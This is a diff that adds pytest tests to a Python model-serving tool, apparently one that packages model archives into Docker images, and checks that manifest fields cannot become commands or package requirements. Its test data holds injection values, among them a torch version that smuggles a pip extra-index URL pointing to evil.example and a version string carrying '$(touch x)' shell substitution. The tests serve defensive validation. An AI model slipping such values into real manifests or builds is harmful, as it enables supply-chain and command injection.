@@ -34,6 +34,7 @@ from traceserve.deploying.plan import Wishes
 from traceserve.deploying.targets import TARGETS, checked, docker
 from traceserve.errors import DeployError
 from traceserve.serving.configuration import free_ports
+from traceserve_runtime.manifest import sealed
 
 
 def deployed(target: str, mars: Sequence[Path], folder: Path, *options: str) -> Path:
@@ -208,6 +209,38 @@ def test_a_damaged_archive_is_not_packed(mar: Path, tmp_path: Path, capsys: pyte
             if name != model:
                 archive.writestr(name, source.read(name))
     assert f"{model} is missing" in refused(capsys, *arguments)
+
+
+@pytest.mark.parametrize(
+    ("changed", "told"),
+    [
+        ({"versions": {"torch": "2.13.0\n--extra-index-url https://evil.example/simple\nevil"}}, "which is no version"),
+        ({"version": "1.0 $(touch x)"}, "version should be 1 to 64 letters"),
+        ({"task": "nonsense"}, "has the task 'nonsense', and this traceserve knows sequence_classification,"),
+        ({"hardware": "toaster"}, "has the hardware 'toaster', and this traceserve knows cpu, gpu, neuron, neuronx"),
+        ({"save_mode": "nonsense"}, "has the save mode 'nonsense', and this traceserve knows torchscript,"),
+    ],
+)
+def test_no_text_of_an_archive_becomes_a_command_or_a_requirement(
+    changed: Dict[str, Any], told: str, mar: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with zipfile.ZipFile(mar) as source:
+        document = {**json.loads(source.read("traceserve.json")), **changed}
+    hostile = tmp_path / "tiny.mar"
+    copy_archive(mar, hostile, {"traceserve.json": json.dumps(sealed(document)).encode()})
+    assert told in refused(capsys, "docker", str(hostile), "--output", str(tmp_path / "out"))
+    assert not (tmp_path / "out").exists()
+
+
+def test_the_torch_of_an_image_is_the_archives(mar: Path) -> None:
+    [own] = described.describe([mar])
+    for built, installed in (
+        ("2.13.0+cpu", "2.13.0"),
+        (" 2.13.0\n", "2.13.0"),
+        ("2.14.0.dev20261101+cu130", "2.14.0.dev20261101"),
+    ):
+        manifest = dataclasses.replace(own.manifest, versions={"torch": built})
+        assert f"torch=={installed}" in packages.requirements([dataclasses.replace(own, manifest=manifest)], ())
 
 
 @pytest.mark.parametrize(
